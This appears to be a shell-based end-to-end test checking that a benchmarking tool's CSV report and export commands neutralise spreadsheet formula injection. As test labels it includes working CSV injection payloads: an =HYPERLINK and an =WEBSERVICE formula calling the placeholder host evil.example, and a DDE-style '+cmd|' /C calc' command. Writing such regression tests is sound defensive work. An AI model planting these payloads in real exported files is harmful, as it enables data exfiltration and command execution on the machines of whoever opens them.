#!/usr/bin/env bash
# CSV injection: report --format csv and export --csv once wrote labels and
# imported fields verbatim, so =HYPERLINK(...), +cmd|calc and @SUM(1+1)
# reached a spreadsheet as formulas. Every CSV caliper writes goes through
# one writer (lib/util/csv.c), which writes a text cell that starts with =,
# +, -, @, tab or CR with a ' before it, quoted, as OWASP recommends, and
# leaves numbers, negative ones included, as numbers. The check reads each
# file with Python's csv module: no cell may start with one of those
# characters unless it is a plain number.
. "$(dirname "$0")/lib.sh"
T=$E2E_TMP
need python3 "reading the CSV files" || finish
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
FS=${BUILD:-build}/tests/helpers/faultserver
start_faultserver "$FS" || { not_ok "fault server started"; finish; }

# formulas FILE: prints each cell a spreadsheet would run, one a line
formulas() {
  python3 - "$1" <<'EOF'
import csv, re, sys
num = re.compile(r'^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$')
with open(sys.argv[1], newline='') as f:
    for row in csv.reader(f):
        for cell in row:
            if cell[:1] in ('=', '+', '-', '@', '\t', '\r') and not num.match(cell):
                print(repr(cell))
EOF
}
# has FILE TEXT: some cell of FILE is exactly TEXT
has() {
  python3 - "$1" "$2" <<'EOF'
import csv, sys
with open(sys.argv[1], newline='') as f:
    sys.exit(0 if any(sys.argv[2] in row for row in csv.reader(f)) else 1)
EOF
}

n=0
for label in '=HYPERLINK("http://evil.example/?q="&A1,"open")' '+cmd|'"'"' /C calc'"'"'!A0' '@SUM(1+1)' '-2+3'; do
  n=$((n + 1))
  "$CALIPER" run --url "http://127.0.0.1:$PORT" --shots 1 --requests 2 --prompt-tokens 16 \
    --max-tokens 4 --no-telemetry --label "$label" --db "$T/s.db" >/dev/null 2>"$T/run.err" ||
    { not_ok "run $n stored"; cat "$T/run.err"; finish; }
done
"$CALIPER" report 1 2 3 4 --db "$T/s.db" --format csv -o "$T/r.csv" 2>"$T/r.err" ||
  { not_ok "report --format csv"; cat "$T/r.err"; }
got=$(formulas "$T/r.csv")
check "report --format csv: no cell a spreadsheet would run (${got:-none})" [ -z "$got" ]
check "report --format csv: the label is there, neutralised with a leading '" \
  has "$T/r.csv" "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open\")"
check "report --format csv: +cmd|... neutralised" has "$T/r.csv" "'+cmd|' /C calc'!A0"
check "report --format csv: @SUM(1+1) neutralised" has "$T/r.csv" "'@SUM(1+1)"
check "report --format csv: -2+3 (a formula, not a number) neutralised" has "$T/r.csv" "'-2+3"
check "report --format csv: the file quotes the neutralised cell" \
  grep -qF "\"'@SUM(1+1)\"" "$T/r.csv"
for i in 1 2 3 4; do
  "$CALIPER" export $i --csv --db "$T/s.db" >"$T/e$i.csv" 2>"$T/e.err" || not_ok "export $i --csv"
done
cat "$T"/e[1-4].csv >"$T/e.csv"
got=$(formulas "$T/e.csv")
check "export --csv: no cell a spreadsheet would run (${got:-none})" [ -z "$got" ]

# an imported file's own fields (its model name) reach the CSV neutralised
python3 - "$ROOT/tests/data/imports/genai-perf.json" "$T/gp.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1]))
d["input_config"]["model"] = ["=WEBSERVICE(\"http://evil.example\")"]
json.dump(d, open(sys.argv[2], "w"))
EOF
"$CALIPER" report --import genai-perf "$T/gp.json" --format csv -o "$T/gp.csv" 2>"$T/gp.err" ||
  { not_ok "report --import genai-perf --format csv"; cat "$T/gp.err"; }
got=$(formulas "$T/gp.csv")
check "an imported model name is neutralised too (${got:-none})" [ -z "$got" ]
# numbers stay numbers: the run id and the counts are bare digits
check "numeric cells are written as they are (run_id 1, unquoted)" grep -q '^1,' "$T/e1.csv"
finish
